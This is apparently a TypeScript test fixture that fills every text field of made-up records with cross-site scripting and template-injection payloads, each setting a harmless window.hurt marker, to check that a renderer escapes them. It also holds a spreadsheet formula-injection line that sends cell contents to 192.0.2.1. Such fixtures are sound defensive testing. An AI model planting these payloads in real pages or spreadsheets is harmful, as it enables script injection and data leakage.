/** A small world in which every text that a record can hold wants to be markup: names, titles, gists, words, notes, and the article's own text. */

import { createHash } from 'node:crypto';
import type { ReadRecord } from '../../src/record/record.ts';
import { records as tame } from '../curating/made-up.ts';

/** Where one of them runs, the page has `window.hurt`. */
export const payloads = [
  '<img src=x onerror="window.hurt=1">',
  '"><script>window.hurt=2</script>',
  "'><svg/onload=window.hurt=3>",
  'javascript:window.hurt=4',
  '</script></style></title></textarea><iframe srcdoc="<script>parent.hurt=5</script>">',
  '" onmouseover="window.hurt=6" autofocus onfocus="window.hurt=7" x="',
  '{{constructor.constructor("window.hurt=8")()}}<%= window.hurt=9 %>',
  '<a href="javascript:window.hurt=10">x</a><math><mi xlink:href="javascript:window.hurt=11">',
];

/** Spreadsheets would run it. */
const formula = '=HYPERLINK("http://192.0.2.1/?"&A1)';

const texts = ['name', 'description', 'note', 'title', 'cue', 'gist', 'unit', 'scope', 'words', 'evidence'];
const lists = ['aliases', 'quotes'];
let turn = 0;
/** Each time the next one, beside a word that makes it a text of its own. */
const next = () => {
  turn += 1;
  return `w${turn} ${payloads[turn % payloads.length]}`;
};

/** The article's text: a payload for each, far longer than any place in it. */
export const articleText = Array.from({ length: 12 }, next).join('\n\n');
const sha256 = createHash('sha256').update(articleText).digest('hex');

function hostile(record: ReadRecord): ReadRecord {
  const changed: Record<string, unknown> = { ...record };
  for (const [field, value] of Object.entries(record)) {
    if (texts.includes(field)) changed[field] = next();
    if (lists.includes(field)) changed[field] = (value as string[]).map(next);
    if (field === 'relays') changed[field] = (value as object[]).map((relay) => ({ ...relay, cue: next() }));
  }
  if (record.type === 'entity') Object.assign(changed, { aliases: [next()], description: formula, note: next() });
  if (record.type === 'relation')
    Object.assign(changed, { title: record.kind === 'HOLDS_ROLE' ? next() : undefined, note: next() });
  if (record.type === 'statement') Object.assign(changed, { note: next() });
  if (record.type === 'figure') Object.assign(changed, { words: next(), start: 0, end: 10 });
  if (record.type === 'article')
    Object.assign(changed, {
      ...{ text: articleText, sha256, length: [...articleText].length },
      url: `https://example.org/?javascript:window.hurt=12&q=${encodeURIComponent(payloads[1] ?? '')}`,
    });
  return JSON.parse(JSON.stringify(changed)) as ReadRecord;
}

export const hostileRecords: readonly ReadRecord[] = tame.map(hostile);
